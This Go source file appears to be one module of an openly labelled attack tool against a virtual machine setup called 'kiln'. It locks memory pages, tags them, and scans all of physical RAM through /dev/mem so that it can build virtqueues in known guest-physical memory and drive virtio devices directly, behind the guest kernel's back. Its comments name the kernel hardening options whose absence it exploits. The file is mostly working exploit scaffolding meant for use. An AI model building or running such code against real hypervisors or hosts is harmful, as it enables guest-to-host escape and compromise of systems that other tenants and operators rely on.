package main

import (
	"bufio"
	"crypto/rand"
	"encoding/binary"
	"errors"
	"fmt"
	"os"
	"sort"
	"strconv"
	"strings"

	"golang.org/x/sys/unix"
)

// Guest-physical memory the attacker controls.
//
// A virtqueue lives in guest RAM: the device reads descriptors and rings
// at guest-physical addresses and writes what it produces there. To drive
// a device without the guest kernel's driver, the attacker needs pages
// whose physical addresses it knows and that the kernel will not hand to
// anyone else. It takes them from its own address space: an anonymous
// mapping, populated and locked (mlock), so each page stays where it is.
// (The kiln guest kernel has no swap, compaction, transparent huge pages,
// KSM or NUMA balancing, so nothing migrates a locked page.)
//
// Its physical address is the question. /proc/self/pagemap would say, but
// the kiln kernel is built without it (CONFIG_PROC_PAGE_MONITOR), and a
// memmap= reservation needs the VMM's command line. So the attacker marks
// each of its pages with a random tag and finds the tags in physical
// memory, read through /dev/mem (the kiln kernel has no STRICT_DEVMEM, so
// /dev/mem reaches all of RAM): a one-time scan of one 16-byte word per
// page of RAM.

const pageSize = 4096

// span is a range of guest-physical addresses.
type span struct{ start, end uint64 }

// systemRAM returns the "System RAM" ranges of /proc/iomem (root sees the
// real addresses), in address order.
func systemRAM() ([]span, error) {
	f, err := os.Open("/proc/iomem")
	if err != nil {
		return nil, err
	}
	defer f.Close()
	var ram []span
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		line := sc.Text()
		if strings.HasPrefix(line, " ") {
			continue // a child of a top-level range
		}
		rng, name, ok := strings.Cut(line, " : ")
		if !ok || strings.TrimSpace(name) != "System RAM" {
			continue
		}
		lo, hi, _ := strings.Cut(rng, "-")
		a, err1 := strconv.ParseUint(lo, 16, 64)
		b, err2 := strconv.ParseUint(hi, 16, 64)
		if err1 != nil || err2 != nil {
			continue
		}
		ram = append(ram, span{a, b + 1})
	}
	if len(ram) == 0 {
		return nil, errors.New("/proc/iomem lists no System RAM (not root?)")
	}
	sort.Slice(ram, func(i, j int) bool { return ram[i].start < ram[j].start })
	return ram, sc.Err()
}

// arena is locked memory of the attacker's whose guest-physical address is
// known page by page.
type arena struct {
	virt []byte
	phys []uint64 // of each page
	// big is the longest physically contiguous run of pages, for buffers
	// and tables larger than a page: first page and length in pages.
	bigFirst, bigPages int
}

// newArena maps, locks and locates pages pages.
func newArena(pages int, ram []span) (*arena, error) {
	virt, err := unix.Mmap(-1, 0, pages*pageSize, unix.PROT_READ|unix.PROT_WRITE,
		unix.MAP_PRIVATE|unix.MAP_ANONYMOUS|unix.MAP_POPULATE)
	if err != nil {
		return nil, fmt.Errorf("mmap arena: %w", err)
	}
	if err := unix.Mlock(virt); err != nil {
		return nil, fmt.Errorf("mlock arena: %w", err)
	}
	a := &arena{virt: virt, phys: make([]uint64, pages)}
	var nonce [8]byte
	if _, err := rand.Read(nonce[:]); err != nil {
		return nil, err
	}
	tag := binary.LittleEndian.Uint64(nonce[:]) | 1
	for i := 0; i < pages; i++ {
		p := virt[i*pageSize:]
		binary.LittleEndian.PutUint64(p, tag)
		binary.LittleEndian.PutUint64(p[8:], ^tag^uint64(i))
	}
	found := 0
	for _, r := range ram {
		n, err := a.scan(r, tag)
		if err != nil {
			return nil, err
		}
		found += n
	}
	if found != pages {
		return nil, fmt.Errorf("found %d of the arena's %d pages in physical memory", found, pages)
	}
	for i := 0; i < pages; {
		j := i + 1
		for j < pages && a.phys[j] == a.phys[j-1]+pageSize {
			j++
		}
		if j-i > a.bigPages {
			a.bigFirst, a.bigPages = i, j-i
		}
		i = j
	}
	for i := range virt {
		virt[i] = 0
	}
	return a, nil
}

// scan maps the RAM range r from /dev/mem and records where the arena's
// tagged pages are in it.
func (a *arena) scan(r span, tag uint64) (int, error) {
	start := (r.start + pageSize - 1) &^ (pageSize - 1)
	end := r.end &^ (pageSize - 1)
	if end <= start {
		return 0, nil
	}
	m, err := mapPhys(start, end-start, false)
	if err != nil {
		return 0, err
	}
	defer unix.Munmap(m)
	n := 0
	for off := uint64(0); off < end-start; off += pageSize {
		if binary.LittleEndian.Uint64(m[off:]) != tag {
			continue
		}
		i := binary.LittleEndian.Uint64(m[off+8:]) ^ ^tag
		if i < uint64(len(a.phys)) && a.phys[i] == 0 {
			a.phys[i] = start + off
			n++
		}
	}
	return n, nil
}

// page returns page i of the arena and its physical address.
func (a *arena) page(i int) ([]byte, uint64) {
	return a.virt[i*pageSize : (i+1)*pageSize], a.phys[i]
}

// mapPhys maps [addr, addr+n) of physical memory from /dev/mem: device
// memory uncached (sync), RAM as the kernel caches it.
func mapPhys(addr, n uint64, sync bool) ([]byte, error) {
	flags := os.O_RDWR
	if sync {
		flags |= os.O_SYNC
	}
	f, err := os.OpenFile("/dev/mem", flags, 0)
	if err != nil {
		return nil, err
	}
	defer f.Close()
	m, err := unix.Mmap(int(f.Fd()), int64(addr), int(n), unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED)
	if err != nil {
		return nil, fmt.Errorf("map /dev/mem %#x+%#x: %w", addr, n, err)
	}
	return m, nil
}
